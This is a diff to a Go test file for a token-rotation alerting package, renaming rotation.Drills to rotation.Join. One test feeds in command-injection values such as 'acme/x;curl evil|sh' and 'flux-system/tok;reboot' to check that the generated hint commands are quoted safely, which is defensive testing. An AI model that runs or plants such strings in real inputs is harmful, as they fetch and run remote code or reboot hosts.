@@ -61,14 +61,14 @@ func alerts(t *testing.T, archive *txtar.Archive) []rotation.Alert {
 		}
 		records = append(records, r)
 	}
-	return rotation.Alerts(rotation.Drills(records), now, "")
+	return rotation.Alerts(rotation.Join(records), now, "")
 }
 
 // TestAlertsOfAnEnd goes through the last days of a token: each threshold is crossed
 // once, and they get graver.
 func TestAlertsOfAnEnd(t *testing.T) {
 	end := time.Date(2026, 12, 31, 9, 0, 0, 0, time.UTC)
-	drills := rotation.Drills([]rotation.Record{
+	drills := rotation.Join([]rotation.Record{
 		{Step: rotation.Started, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end},
 		{Step: rotation.Stored, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end, Places: []rotation.Place{escP, secretP}},
 	})
@@ -116,7 +116,7 @@ func TestCommandsOfHints(t *testing.T) {
 	r := step(rotation.Stored, 0, "acme/fleet", "A", "B")
 	r.Places = []rotation.Place{{Where: `esc acme/flux/prod git["hub.token"]`}, {Where: "secret flux-system/tok;reboot password"}}
 	r.Repositories = []string{"acme/x;curl evil|sh", "--help", "it's"}
-	found := rotation.Alerts(rotation.Drills([]rotation.Record{r}), began.AddDate(0, 0, 80), "")
+	found := rotation.Alerts(rotation.Join([]rotation.Record{r}), began.AddDate(0, 0, 80), "")
 	for _, want := range []string{
 		"`fluxkeeper-receiver rotate finish --repo 'acme/x;curl evil|sh' --esc acme/flux/prod --esc-path 'git[\"hub.token\"]' --cluster-secret 'flux-system/tok;reboot'`",
 		`rotate start --repo 'acme/x;curl evil|sh' --repo '--help' --repo 'it'\''s' --esc`,
@@ -165,14 +165,14 @@ func TestAlerts(t *testing.T) {
 		"stored last counts":      {[]rotation.Record{step(rotation.Started, 0, "acme/a", "", "B"), short(step(rotation.Stored, 1, "acme/a", "", "C")), step(rotation.Stored, 2, "acme/a", "", "B")}, 31, "", nil},
 	} {
 		var got []string
-		for _, a := range rotation.Alerts(rotation.Drills(c.records), began.Add(time.Duration(c.hours)*time.Hour), c.dead) {
+		for _, a := range rotation.Alerts(rotation.Join(c.records), began.Add(time.Duration(c.hours)*time.Hour), c.dead) {
 			got = append(got, a.Rule+" "+a.New)
 		}
 		if diff := cmp.Diff(c.want, got); diff != "" {
 			t.Errorf("%s:\n%s", name, diff)
 		}
 	}
-	live := rotation.Live(rotation.Drills([]rotation.Record{step(rotation.Stored, 0, "acme/a acme/b", "", "B"), step(rotation.Stored, 1, "acme/a", "", "C")}))
+	live := rotation.Live(rotation.Join([]rotation.Record{step(rotation.Stored, 0, "acme/a acme/b", "", "B"), step(rotation.Stored, 1, "acme/a", "", "C")}))
 	if len(live) != 2 || live[0].New != "C" || strings.Join(live[1].Repositories, " ") != "acme/b" {
 		t.Errorf("%+v", live)
 	}
